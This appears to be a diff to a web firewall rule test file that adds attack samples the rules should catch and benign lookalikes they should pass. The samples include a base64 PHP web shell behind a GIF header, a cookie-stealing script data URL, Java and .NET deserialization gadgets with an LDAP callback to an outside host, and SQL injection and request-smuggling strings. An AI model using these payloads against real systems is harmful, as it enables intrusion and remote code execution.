@@ -184,6 +184,17 @@ HITS = [
     (20903, _upload("notes.txt", b"x", "text/plain; charset=utf-8, text/html; charset=utf-7")),
     (20904, _query("x\r\n\r\nGET /admin/users HTTP/1.1\r\nHost: localhost", "lang")),
     (20904, _body("application/xml", b'<?xml version="1.0"?><a><b>POST /internal/reset HTTP/1.1</b></a>')),
+    # a GIF header in front of PHP, and a script, as data URLs
+    (20004, _json('{"avatar": "data:image/gif;base64,R0lGODlhPD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="}')),
+    (20004, _query("data:text/html;charset=utf-8;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+",
+                   "preview")),
+    (20813, _json('{"a": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://198.51.100.7/x",'
+                  ' "autoCommit": true}}')),
+    (20813, _json('{"payload": {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework",'
+                  ' "MethodName": "Start"}}')),
+    (20813, _json('{"x": {"@class": "org.springframework.context.support.FileSystemXmlApplicationContext"}}')),
+    (20814, _body("application/xml", b'<?xml version="1.0"?><java version="1.8"><object class="java.net.URL">'
+                                     b'<string>http://198.51.100.7/</string></object></java>')),
 ]
 
 MISSES = [
@@ -267,6 +278,17 @@ MISSES = [
     _query("Can't wait to get started\nwe will post tomorrow\nget it done", "message"),
     _body("application/xml", b'<?xml version="1.0"?><methodCall><methodName>wp.newPost</methodName>'
                              b'<params><param><value>1</value></param></params></methodCall>'),
+    # a real image's data URL (PNG, 1x1); JSON-LD's @type; a dotted value under another
+    # key; Spring's <bean class=...>, a Maven POM's coordinates
+    _json('{"signature": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4'
+          'DwABBAEAwS2OUAAAAABJRU5ErkJggg=="}'),
+    _json('{"@context": "https://schema.org", "@type": "Person", "name": "Ann Lee"}'),
+    _json('{"logger": "com.example.billing.InvoiceService", "level": "WARN"}'),
+    _body("application/xml", b'<?xml version="1.0"?><beans><bean id="mailer" class="com.example.mail.Sender"/>'
+                             b'</beans>'),
+    _body("application/xml", b'<?xml version="1.0"?><project><dependencies><dependency><groupId>org.apache.commons'
+                             b'</groupId><artifactId>commons-text</artifactId><version>1.12.0</version>'
+                             b'</dependency></dependencies></project>'),
 ]
 
 
@@ -343,6 +365,10 @@ REMOVED = [
     (942360, _query("name,email", "$select"), _query("1' union select username, password from users-- -", "id")),
     (921110, _query("Can't wait to get started\nsee you", "message"),
      _query("x\r\n\r\nGET /admin/users HTTP/1.1\r\nHost: localhost", "lang")),
+    (944130, _body("application/xml", b'<?xml version="1.0"?><project><dependencies><dependency><groupId>'
+                                      b'org.apache.commons</groupId><artifactId>commons-text</artifactId>'
+                                      b'</dependency></dependencies></project>'),
+     _json('{"b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://198.51.100.7/x"}}')),
 ]
 
 
